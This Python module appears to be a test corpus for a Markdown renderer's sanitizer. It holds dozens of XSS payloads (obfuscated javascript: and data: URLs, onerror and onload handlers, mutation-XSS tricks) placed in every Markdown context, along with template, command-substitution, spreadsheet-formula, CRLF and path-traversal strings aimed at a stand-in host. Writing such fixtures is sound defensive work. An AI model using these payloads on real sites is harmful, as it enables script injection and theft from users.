"""Hostile text: what people put into a page to make it run, fetch or hide something, in every place that Markdown has for it.

`bodies()` is the corpus for running text, `VECTORS` what goes into fields, addresses, searches, saved files and issues.
The flag that a payload sets when it runs is `window.gelopen`; what it fetches lies on elders.test.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.gelopen=1"
FAR = "https://elders.test/x.png"

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#9;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#x6A&#x61&#x76&#x61script:{RUN}",
    f"javascript%3A{RUN}",
    f"\\javascript:{RUN}",
    f"javascript\\:{RUN}",
    f"javascript://elders.test/%0A{RUN}",
    f"\u0001javascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"ja\u200bvascript:{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD4{RUN}",
    f"data:image/svg+xml,<svg onload={RUN}>",
    "blob:https://elders.test/1",
    "file:///etc/passwd",
    "//elders.test/x.png",
    "\\\\elders.test\\x.png",
    "https:elders.test/x.png",
    "http://elders.test/x.png",
    FAR,
    "https://elders.test@voorbeeld.nl/",
    "https://naam:geheim@elders.test/",
    "mailto:?body=%0d%0abcc:iemand@elders.test",
    "tel:0612345678",
    "about:blank",
    '#"onmouseover="' + RUN,
    "../../../etc/passwd",
    'voorbeeld:1085"onclick="' + RUN,
)
# Where an address can stand in running text.
PLACES = (
    "[tekst]({})",
    "[tekst](<{}>)",
    '[tekst]({} "titel")',
    "![beeld]({})",
    "![beeld](<{}>)",
    "[![beeld](../content/beeld/x.svg)]({})",
    "<{}>",
    "{}",
    "[tekst][a]\n\n[a]: {}",
    "[a]\n\n[a]: <{}> 'titel'",
    "- [tekst]({})",
    "> [tekst]({})",
    "| a | b |\n| --- | --- |\n| [tekst]({}) | b |",
    "### [tekst]({})",
    "*[LOB]: {}",
    "[@hva-2025, {}]",
)
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={FAR}></ScRiPt>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{FAR}'>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{FAR}'></object>",
    f"<embed src='{FAR}'>",
    f"<video><source onerror={RUN} src=x></video>",
    f"<audio src='{FAR}' autoplay onplay={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<summary onclick={RUN}>x</summary>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<form action='{FAR}'><input name=q></form>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href='{FAR}'>",
    f"<link rel=stylesheet href='{FAR}'>",
    f"<style>@import '{FAR}';</style>",
    f"<style>*{{background:url({FAR})}}</style>",
    f"<p style='background:url({FAR})'>x</p>",
    "<form id=formulier></form><input id=zoekvraag name=attributes>",
    "<a id=LOB></a><a id=LOB name=keeper></a>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"</textarea></title></style></script><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\<img src=x onerror={RUN}>",
    f"`<img src=x onerror={RUN}>`",
    f"```\n</code></pre><img src=x onerror={RUN}>\n```",
    f"<kbd onclick={RUN}>x</kbd>",
    f"<abbr title='\"><img src=x onerror={RUN}>'>x</abbr>",
)
# Where an element can stand.
AROUND = (
    "{}",
    "Tekst {} en verder.",
    "- {}",
    "> {}",
    "| a | b |\n| --- | --- |\n| {} | b |",
    "### Kop {}",
    "**{}**",
    "[{}](https://voorbeeld.nl/)",
)
OTHERS = (
    "{{ config }} {% raw %}",
    "${{ secrets.TOKEN }} $(id) `id`",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    '"><script>' + RUN + "</script>",
    "' onmouseover='" + RUN,
    '" onfocus="' + RUN + '" autofocus x="',
    "\u202egnp.exe",
    "%00%0d%0aSet-Cookie: a=b",
    "😀" * 50,
    "](javascript:" + RUN + ")",
    "[[[[[[[[[[[[[[[[",
    "a" * 300,
    "0",
    "null",
)
VECTORS = (*ADDRESSES, *ELEMENTS, *OTHERS)


def bodies() -> Iterator[str]:
    """Every address in every place, every element in every place, and the rest as a paragraph."""
    yield from (place.replace("{}", address) for place in PLACES for address in ADDRESSES)
    yield from (
        around.replace("{}", element.replace("\n", " ") if "|" in around else element)
        for around in AROUND
        for element in ELEMENTS
    )
    yield from OTHERS
